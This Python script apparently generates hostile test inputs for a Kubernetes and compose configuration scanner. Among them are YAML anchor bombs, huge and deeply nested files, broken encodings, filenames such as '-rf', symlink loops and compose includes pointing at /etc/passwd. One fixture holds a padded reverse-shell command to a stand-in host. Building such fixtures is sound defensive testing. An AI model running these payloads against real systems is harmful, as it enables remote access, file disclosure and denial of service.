#!/usr/bin/env python3
"""usage: hostile_inputs.py DIR: writes the files that test_hostile.sh audits."""
import os
import sys

DEEP = 100000
POD = """apiVersion: v1
kind: Pod
metadata: {name: p}
spec:
  containers:
  - name: a
    image: nginx
    securityContext: {privileged: true}
"""
JSON_POD = ('{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p%d"},"spec":{"containers":'
            '[{"name":"a","image":"nginx:1.25","securityContext":{"privileged":true}}]}}')


def write(name, content):
    with open(name, "wb") as file:
        file.write(content if isinstance(content, bytes) else content.encode())


def bombs():
    """Small files that unfold to much."""
    laughs = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    laughs += ["a%d: &a%d [%s]" % (i, i, ",".join(["*a%d" % (i - 1)] * 9)) for i in range(1, 12)]
    write("laughs.yaml", "\n".join(laughs) + "\n")
    write("fan-out.yaml", "a: &a {k: [1,2,3,4,5,6,7,8,9,10]}\nl:\n" + "- *a\n" * 2000000)
    merges = ["m0: &m0 {a: 1}"]
    merges += ["m%d: &m%d\n  <<: [%s]\n  k%d: 1" % (i, i, ",".join(["*m%d" % (i - 1)] * 30), i) for i in range(1, 200)]
    write("merges.yaml", "\n".join(merges) + "\n")
    keys = ",".join("k%d: 1" % i for i in range(2000))
    write("merge-lists.yaml", "m: &m {%s}\nl:\n" % keys + "- {<<: *m}\n" * 20000)


def large():
    with open("list.json", "w", encoding="ascii") as file:
        file.write('{"apiVersion":"v1","kind":"List","items":[' + JSON_POD % 0)
        for i in range(1, 640000):
            file.write("," + JSON_POD % i)
        file.write("]}")
    write("string.json", '{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"c"},"data":{"big":"'
          + "x" * 100000000 + '"}}')
    write("keys.json", "{" + ",".join('"k%d":%d' % (i, i) for i in range(1000000)) + "}")
    write("keys.yaml", "".join("k%d: %d\n" % (i, i) for i in range(1000000)))
    write("twice.yaml", "".join("k: %d\n" % i for i in range(100000)))
    write("documents.yaml", "---\na: 1\n" * 200000)
    write("line.yaml", "a: " + "x" * 50000000 + "\n")
    with open("huge.yaml", "wb") as file:
        file.truncate(300 << 20)


def wide():
    """Much of what rules look at, and of what they look at it with."""
    head = "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n"
    one = '  - {name: c%d, image: "x:1", securityContext: {privileged: true}}\n'
    write("containers.yaml", head + "".join(one % i for i in range(20000)))
    write("comments.yaml", head + "".join("  # profgen:ignore PG999 -- x\n" + one % i for i in range(9000)))
    write("environment.yaml", head + "  - name: c\n    image: x\n    env:\n"
          + "".join("    - {name: PASSWORD_%d, value: s3cr3t%d}\n" % (i, i) for i in range(100000)))
    write("padded.yaml", head + '  - {name: c, image: x, command: [sh, -c, "%sbash -i >& /dev/tcp/192.0.2.1/80 0>&1"]}\n'
          % (": ;" * 100000))
    os.makedirs("ignored/" + "d/" * 30)
    for at in ("ignored/", "ignored/" + "d/" * 30):
        write(at + ".gitignore", "**/a*a*/**/*a*a*a*b\n" * 50000)
    for i in range(300):
        write("ignored/" + "d/" * 30 + "a" * 200 + "%d.yaml" % i, "a: 1\n")


def profiles():
    """Profiles in objects, and containers that name them: as many, as large and as entangled as fit."""
    head = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: m}\ndata:\n"
    value = '{"defaultAction":"SCMP_ACT_LOG","x":[' + ",".join(["[1]"] * 15000) + "]}"
    write("profile-values.yaml", head + "".join("  k%d.json: '%s'\n" % (i, value) for i in range(1000)))
    rules = "".join("      /srv/d%d/** rw,\n" % i for i in range(20000))
    pods = ("---\napiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n"
            "  securityContext: {appArmorProfile: {type: Localhost, localhostProfile: web}}\n"
            "  volumes: [{name: v, hostPath: {path: /}}]\n  containers:\n")
    pods += "".join('  - {name: c%d, image: "x:1", volumeMounts: [{name: v, mountPath: /m%d}]}\n' % (i, i) for i in range(5000))
    write("profile-rules.yaml", head + "  web: |\n    profile web {\n" + rules + "    }\n" + pods)
    write("profile-pods.yaml", head + "  web: |\n    profile web {\n      file,\n    }\n" + pods)
    base = ("---\napiVersion: security-profiles-operator.x-k8s.io/v1\nkind: SeccompProfile\nmetadata: {name: p%d}\n"
            "spec: {defaultAction: SCMP_ACT_ERRNO, baseProfileName: p%d, syscalls: [{names: [bpf], action: SCMP_ACT_ALLOW}]}\n")
    write("profile-bases.yaml", "".join(base % (i, (i + 1) % 1000) for i in range(1000)))
    write("rules.aa", "profile web {\n" + rules * 4 + "}\n")


def deep():
    write("deep-flow.yaml", "a: " + "[" * DEEP + "]" * DEEP + "\n")
    write("deep-maps.yaml", "a: " + "{a: " * DEEP + "1" + "}" * DEEP + "\n")
    write("deep-block.yaml", "- " * DEEP + "x\n")
    write("deep-indent.yaml", "".join(" " * i + "a:\n" for i in range(10000)))
    write("deep.json", '{"kind":"Pod","a":' + "[" * DEEP + "]" * DEEP + "}")
    write("deep-maps.json", '{"a":' * DEEP + "1" + "}" * DEEP)
    write("deep.toml", "a = " + "[" * DEEP + "]" * DEEP + "\n")
    write("deep-maps.toml", "a = " + "{a = " * DEEP + "1" + "}" * DEEP + "\n")
    write("deep-key.toml", ".".join(["a"] * DEEP) + " = 1\n")
    write("deep-table.toml", "[" + ".".join(["a"] * DEEP) + "]\nb = 1\n")


def encodings():
    write("binary.yaml", bytes((i * i * 7 + i // 3) % 256 for i in range(100000)))
    with open("/proc/self/exe", "rb") as program:
        write("elf.yaml", program.read())
    write("broken-utf8.yaml", POD.encode() + b'    command: ["\xff\xfe\xc3("]\n')
    write("utf16.yaml", POD.encode("utf-16"))
    write("utf16-big.yaml", b"\xfe\xff" + POD.encode("utf-16-be"))
    write("utf16-cut.yaml", POD.encode("utf-16")[:-1])
    write("nul.yaml", POD.encode() + b'    command: ["a\0b"]\n')
    write("nul.json", (JSON_POD % 1).encode().replace(b"nginx", b"ngi\0nx"))
    write("surrogate.json", (JSON_POD % 1).replace("nginx", "\\ud800"))
    write("empty.yaml", "")
    write("dashes.yaml", "---\n---\n---\n")


def names():
    os.mkdir("names")
    for name in (b"a\nb.yaml", b"\033[31mred.yaml", b"tab\t.yaml", b"\xff\xfe.yaml", b"-.yaml", b"-rf"):
        write(os.path.join(b"names", name), POD)


def tree():
    os.makedirs("tree/closed")
    for name in ("tree/seen.yaml", "tree/secret.yaml", "tree/closed/within.yaml", "pod.yaml"):
        write(name, POD)
    for link, target in (("self", "."), ("up", "../tree"), ("a", "b"), ("b", "a"), ("nowhere", "no/such"),
                         ("zero.yaml", "/dev/zero")):
        os.symlink(target, "tree/" + link)
    os.mkfifo("tree/fifo.yaml")
    for depth in (63, 64, 65, 80):
        os.makedirs("nested/" + "d/" * depth, exist_ok=True)
        write("nested/" + "d/" * depth + "p.yaml", POD)
    os.mkdir("void")


def compose():
    service = "services: {%s: {image: x}}\n"
    os.mkdir("compose")
    write("compose/circle.yaml", "include: [other.yaml]\n" + service % "a")
    write("compose/other.yaml", "include: [circle.yaml]\n" + service % "b")
    write("compose/zero.yaml", "include: [/dev/zero]\n" + service % "a")
    write("compose/pipe.yaml", "include: [pipe]\n" + service % "a")
    os.mkfifo("compose/pipe")
    up = "../" * (os.getcwd().count("/") + 4)
    write("compose/shadow.yaml", "include: [%setc/passwd]\n" % up + service % "a")
    write("compose/extends.yaml", "services: {a: {extends: b, image: x}, b: {extends: a, image: x}}\n")
    os.mkdir("doubling")
    for i in range(40):
        write("doubling/%d.yaml" % i, "include: [%d.yaml, %d.yaml]\n" % (i + 1, i + 1) + service % ("s%d" % i))
    write("doubling/40.yaml", service % "z")


os.chdir(sys.argv[1])
for part in (bombs, large, wide, profiles, deep, encodings, names, tree, compose):
    part()
